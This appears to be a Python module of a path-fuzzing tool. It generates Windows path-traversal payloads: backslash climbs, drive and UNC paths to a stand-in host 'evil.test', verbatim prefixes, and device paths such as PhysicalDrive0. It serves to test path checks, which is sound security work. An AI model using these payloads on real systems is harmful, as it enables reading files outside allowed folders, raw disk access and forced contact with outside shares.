r"""Paths that mean something on Windows only: ``\``, drives, namespaces, devices, streams, dots."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import base, late, leaf, straight, way, ways
from capfuzz.attacks.techniques.registry import Kind, technique

_WINDOWS = ("windows",)
_SESSION = ("session",)
_SEPARATES = r"takes \ for a separator after a check that did not"
_ON_WINDOWS = "opens the path on Windows"


@technique(
    "backslash-climb",
    kind=Kind.PATH,
    group="backslash",
    cwe="CWE-28",
    needs=_SEPARATES,
    refs=("CVE-2018-1271", "CVE-2007-0450"),
    platforms=_WINDOWS,
)
def backslash_climb(root: str, target: str) -> Iterator[str]:
    r"""Climb with ``..\``, and write the whole rest with backslashes."""
    ups, down = way(root, target)
    yield straight(root, target, "..\\")
    yield late(root, target, "..\\")
    yield straight(root, target, "..\\", "\\")
    yield "\\".join([f"{base(root)}/sub", *[".."] * (ups + 1), *down])


@technique(
    "mixed-separators",
    kind=Kind.PATH,
    group="backslash",
    cwe="CWE-28",
    needs=_SEPARATES,
    platforms=_WINDOWS,
)
def mixed_separators(root: str, target: str) -> Iterator[str]:
    r"""Mix both separators around the dots, doubled and in either order."""
    yield from ways(root, target, "..\\/", "..\\\\", "\\../", ".\\..\\")


@technique(
    "backslash-absolute",
    kind=Kind.PATH,
    group="backslash",
    cwe="CWE-38",
    needs="joins the rest to the root on Windows, where a leading backslash replaces it",
    platforms=_WINDOWS,
)
def backslash_absolute(root: str, target: str) -> Iterator[str]:
    r"""Begin the rest with a backslash: an absolute path of the current drive."""
    yield f"{base(root)}/{target.replace('/', chr(92))}"
    yield f"{base(root)}/\\{target.lstrip('/')}"


@technique(
    "drive-absolute",
    kind=Kind.PATH,
    group="windows",
    cwe="CWE-36",
    needs="joins the rest to the root on Windows, where a drive replaces it",
    refs=("CVE-2025-23084",),
    platforms=_WINDOWS,
)
def drive_absolute(root: str, target: str) -> Iterator[str]:
    r"""Begin the rest with a drive: ``C:/``, ``C:\``, in lower case, and after a climb."""
    place = target.replace("/", "\\")
    yield f"{base(root)}/C:{target}"
    yield f"{base(root)}/C:{place}"
    yield f"{base(root)}/c:{target}"
    yield f"{base(root)}/sub/C:{place}"


@technique(
    "drive-relative",
    kind=Kind.PATH,
    group="windows",
    cwe="CWE-39",
    needs="joins the rest to the root on Windows, where C:name is relative to another folder",
    refs=("CVE-2025-23084",),
    platforms=_WINDOWS,
)
def drive_relative(root: str, target: str) -> Iterator[str]:
    r"""Name a drive without a separator: relative to whatever folder is current there."""
    yield f"{base(root)}/C:{leaf(target)}"
    yield f"{base(root)}/C:..\\{leaf(target)}"
    yield f"{base(root)}/C:"
    yield f"{base(root)}/C:../{'/'.join(way(root, target).names)}"


@technique(
    "drive-alone",
    kind=Kind.PATH,
    group="windows",
    cwe="CWE-36",
    surfaces=_SESSION,
    needs="takes a path that does not begin with a slash for relative, and opens it on Windows",
    platforms=_WINDOWS,
)
def drive_alone(root: str, target: str) -> Iterator[str]:
    """Begin the whole path with a drive or with backslashes alone."""
    place = target.replace("/", "\\")
    yield f"C:{place}"
    yield f"C:{target}"
    yield place
    yield f"{base(root)[1:]}\\..{place}"


@technique(
    "unc",
    kind=Kind.PATH,
    group="windows",
    cwe="CWE-40",
    needs="joins the rest to the root on Windows, where a share replaces it and is contacted",
    platforms=_WINDOWS,
)
def unc(root: str, target: str) -> Iterator[str]:
    r"""Name a share of a host that must not be contacted: ``\\evil.test\share``, with ``/`` too."""
    place = target.replace("/", "\\")
    yield f"{base(root)}/\\\\evil.test\\share{place}"
    yield f"{base(root)}/\\/evil.test/share{target}"
    yield f"{base(root)}/\\\\evil.test@80\\share{place}"


@technique(
    "verbatim",
    kind=Kind.PATH,
    group="windows",
    cwe="CWE-41",
    needs=f"{_ON_WINDOWS}, where these prefixes switch normalisation off",
    platforms=_WINDOWS,
)
def verbatim(root: str, target: str) -> Iterator[str]:
    r"""Begin with ``\\?\``, ``\??\`` or their UNC form, in which nothing is made canonical."""
    place = target.replace("/", "\\")
    yield f"{base(root)}/\\\\?\\C:{place}"
    yield f"{base(root)}/\\??\\C:{place}"
    yield f"{base(root)}/\\\\?\\UNC\\evil.test\\share{place}"
    yield f"{base(root)}/\\\\?\\GLOBALROOT\\Device\\HarddiskVolume1{place}"


@technique(
    "device-namespace",
    kind=Kind.PATH,
    group="windows",
    cwe="CWE-67",
    needs=f"{_ON_WINDOWS}, where these prefixes name devices",
    platforms=_WINDOWS,
)
def device_namespace(root: str, target: str) -> Iterator[str]:
    r"""Begin with ``\\.\``: raw disks, pipes, and drives by another name."""
    place = target.replace("/", "\\")
    yield f"{base(root)}/\\\\.\\C:{place}"
    yield f"{base(root)}/\\\\.\\PhysicalDrive0"
    yield f"{base(root)}/\\\\.\\pipe\\evil"
